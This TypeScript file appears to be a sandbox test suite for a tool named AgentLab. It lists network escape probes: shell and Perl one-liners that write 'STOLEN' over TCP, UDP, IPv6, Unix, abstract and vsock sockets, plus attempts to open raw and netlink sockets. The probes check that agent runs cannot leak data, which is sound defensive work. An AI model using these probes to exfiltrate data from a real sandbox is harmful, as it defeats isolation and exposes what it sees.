/** The wall around the network: nothing leaves the box but by its gate. */
import { type Attack, type Guarantee, perl } from './attack.ts'

const socketTo = (variable: string): string =>
  perl(
    `use Socket; my $p = $ENV{${variable}}; $p =~ s/^@/\\0/; socket(my $s, PF_UNIX, SOCK_STREAM, 0) or exit 1; connect($s, pack_sockaddr_un($p)) or exit 1; syswrite($s, "STOLEN") or exit 1`,
  )

const attacks: Attack[] = [
  { name: 'a TCP connection to a server on this machine', script: 'echo STOLEN >/dev/tcp/127.0.0.1/$TCP_PORT' },
  {
    name: 'the same over IPv6',
    script: perl(
      'use Socket qw(:all); socket(my $s, AF_INET6, SOCK_STREAM, 0) or exit 1; connect($s, pack_sockaddr_in6($ENV{TCP6_PORT}, inet_pton(AF_INET6, "::1"))) or exit 1; syswrite($s, "STOLEN") or exit 1',
    ),
    mayBeMissing: 'this machine has no IPv6',
  },
  {
    // A datagram to nobody succeeds as well: whether it arrived is asked by TCP of the same machine.
    name: 'a UDP datagram',
    script: 'echo STOLEN >/dev/udp/127.0.0.1/$UDP_PORT; exec 3<>/dev/tcp/127.0.0.1/$TCP_PORT',
  },
  {
    name: 'a route to anywhere',
    script: perl(
      'use Socket; socket(my $s, PF_INET, SOCK_DGRAM, 0) or exit 1; connect($s, pack_sockaddr_in(9, inet_aton("192.0.2.1"))) or exit 1',
    ),
    mayBeMissing: 'this machine has no route out',
  },
  { name: 'a unix socket among the temporary files, as ssh-agent has', script: socketTo('SOCKET_IN_TMP') },
  { name: "another seat's gate", script: socketTo('SOCKET_BESIDE') },
  { name: 'an abstract unix socket, as dbus has', script: socketTo('ABSTRACT_SOCKET') },
  {
    name: 'a vsock to the host of this virtual machine',
    script: perl('socket(my $s, 40, 1, 0) or exit 1'),
    mayBeMissing: 'this kernel has no vsock',
  },
  { name: 'a raw packet socket', script: perl('socket(my $s, 17, 3, 768) or exit 1'), control: 'root' },
  { name: 'a raw IP socket', script: perl('socket(my $s, 2, 3, 1) or exit 1'), control: 'root' },
  {
    name: "the sockets of the machine's other programs, by netlink",
    script: perl('socket(my $s, 16, 3, 4) or exit 1'),
    mayBeMissing: 'this kernel does not list sockets',
  },
]

export const network: Guarantee = {
  name: 'network',
  protects: 'Nothing leaves the box but by its gate.',
  attacks,
  means: 'A worker could send what it sees to anybody.',
  cure: 'Start no run here. Look for a bwrap that is not the system’s own, then run AgentLab on another kernel or in a virtual machine.',
}
